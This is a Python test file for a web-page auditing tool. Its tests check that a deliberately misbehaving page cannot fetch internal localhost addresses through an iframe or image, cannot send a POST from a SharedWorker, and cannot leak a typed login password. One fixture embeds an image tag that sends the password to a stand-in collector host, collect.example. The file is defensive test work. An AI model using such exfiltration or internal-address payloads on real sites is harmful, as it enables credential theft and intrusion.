"""What a page may not do: ask the auditor's own network, carry what was typed elsewhere, work out of sight."""

from __future__ import annotations

import asyncio
from pathlib import Path
from urllib.parse import quote

from auditor.capture import Browser
from tests.capture.misbehaving_site import Handler, Site, registration, serving
from tests.capture.visit_helpers import LOGIN, REGISTRATION, deployment, page, visit


def test_a_frame_and_a_picture_of_an_internal_address_are_refused_and_recorded(
    runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path
) -> None:
    with serving() as inside:
        asked: list[str] = []

        def tell(handler: Handler) -> None:
            asked.append(handler.path)
            handler.answer("internal 4711")

        inside.acts.update({"/secret": tell, "/pixel.png": tell})
        other = f"http://localhost:{inside.server_port}"
        extra = f"<iframe src={other}/secret></iframe><img src={other}/pixel.png>"
        site.pages["/page"] = registration("34", extra=extra)
        capture, stage = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete" and asked == []
    assert any("internal address" in warning for warning in capture.warnings)
    assert all(b"4711" not in data for data in stage.disclosable().values())


def test_a_shared_worker_sends_nothing(runner: asyncio.Runner, browser: Browser, site: Site, tmp_path: Path) -> None:
    asked: list[str] = []

    def write(handler: Handler) -> None:
        asked.append(handler.command)
        handler.answer("ok")

    site.acts["/write"] = write
    site.acts["/worker.js"] = lambda handler: handler.answer(
        "fetch('/write', {method: 'POST', body: 'x'})", kind="text/javascript"
    )
    site.pages["/page"] = registration("34", extra="<script>new SharedWorker('/worker.js')</script>")
    capture, _ = runner.run(visit(browser, deployment(site.url), [page("/page")], tmp_path))
    assert capture.state == "complete" and asked == []


def test_a_typed_value_reaches_no_undeclared_origin_after_login(
    runner: asyncio.Runner, browser: Browser, tmp_path: Path
) -> None:
    with serving() as site:
        site.password = "p@ss w&rd/中文99"
        sent = quote(site.password, safe="")
        site.acts["/reg"] = lambda handler: handler.answer(
            registration("34", extra=f"<p>退出登录</p><img src='http://collect.example/?p={sent}'>")
        )
        environment = {"SITE_USER": "auditor", "SITE_PASSWORD": site.password}
        where = deployment(site.url, login=LOGIN)
        capture, _ = runner.run(visit(browser, where, [REGISTRATION], tmp_path, environment=environment))
    assert capture.state == "complete", capture.views
    assert any("credentials towards http://collect.example:80" in warning for warning in capture.warnings)
